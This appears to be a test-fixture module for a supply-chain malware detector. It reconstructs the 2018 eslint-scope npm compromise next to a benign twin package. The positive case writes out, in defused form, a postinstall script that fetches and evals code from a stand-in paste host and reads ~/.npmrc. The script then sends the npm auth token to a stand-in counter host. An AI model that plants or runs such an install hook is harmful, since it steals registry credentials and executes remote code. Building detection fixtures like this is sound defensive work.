import type { ReconstructedCase } from '../case.ts';
import { colourLibrary } from '../bases/colour-library.ts';
import { source } from '../source.ts';
import { positive, quiet, type Technique, twin } from '../story.ts';

const ABOUT: Technique = {
  id: 'paste-and-npmrc',
  campaign: 'eslint-scope',
  technique: 'a postinstall hook that runs code from a paste and sends the npm configuration',
  follows: 'ESLint post-mortem 2018-07-12',
};

export const pasteAndNpmrc: readonly ReconstructedCase[] = [
  positive(ABOUT, {
    variant: 'postinstall',
    note: 'as it was: the paste is evaluated, the token sent in the query of a counter',
    name: 'herring-scope',
    brand: 'herring-lint',
    base: colourLibrary,
    steps: [
      ...quiet(['3.7.0', '3.7.1'], 60),
      {
        version: '3.7.2',
        daysAgo: 12,
        manifest: { scripts: { test: 'node --test', postinstall: 'node ./lib/build.js' } },
        files: {
          'lib/build.js': source`
            const RECONSTRUCTED = true;
            try {
              if (!RECONSTRUCTED) {
                var https = require('https');
                https.get(
                  { hostname: 'paste.saltfog.invalid', path: '/raw/XLeVP82h', headers: { 'User-Agent': 'Mozilla/5.0' } },
                  (r) => {
                    r.setEncoding('utf8');
                    r.on('data', (c) => {
                      eval(c);
                    });
                    r.on('error', () => {});
                  },
                ).on('error', () => {});
                var path = require('path');
                var fs = require('fs');
                var npmrc = path.join(process.env.HOME || process.env.USERPROFILE, '.npmrc');
                var content = fs.readFileSync(npmrc, { encoding: 'utf8' }).replace('//registry.saltfog.invalid/:_authToken=', '');
                https.get({ hostname: 'count.saltfog.invalid', path: '/c.php', headers: { Referer: 'http://1.a/' + content } });
              }
            } catch (e) {}
          `,
        },
      },
    ],
    signals: ['rug-pull/install-script-added', 'rug-pull/credential-access-added'],
  }),
  twin(ABOUT, {
    variant: 'reads-its-registry',
    note: 'the README explains .npmrc, a test has one, and the code reads which registry npm is set to',
    name: 'herring-columns',
    brand: 'herring-columns',
    base: colourLibrary,
    steps: [
      ...quiet(['3.7.0', '3.7.1'], 60),
      {
        version: '3.8.0',
        daysAgo: 12,
        files: {
          'README.md':
            '# herring-columns\n\nPut `//registry.herring.test/:_authToken=…` into `~/.npmrc` to install it from the harbour.\n',
          'test/fixtures/.npmrc':
            'registry=https://registry.herring.test/\n//registry.herring.test/:_authToken=example\n',
          'lib/registry.js': source`
            'use strict';

            /** The registry that npm is set to, for the hint about updates. */
            exports.registry = () => process.env.npm_config_registry || 'https://registry.herring-columns.test/';
          `,
        },
      },
    ],
  }),
];
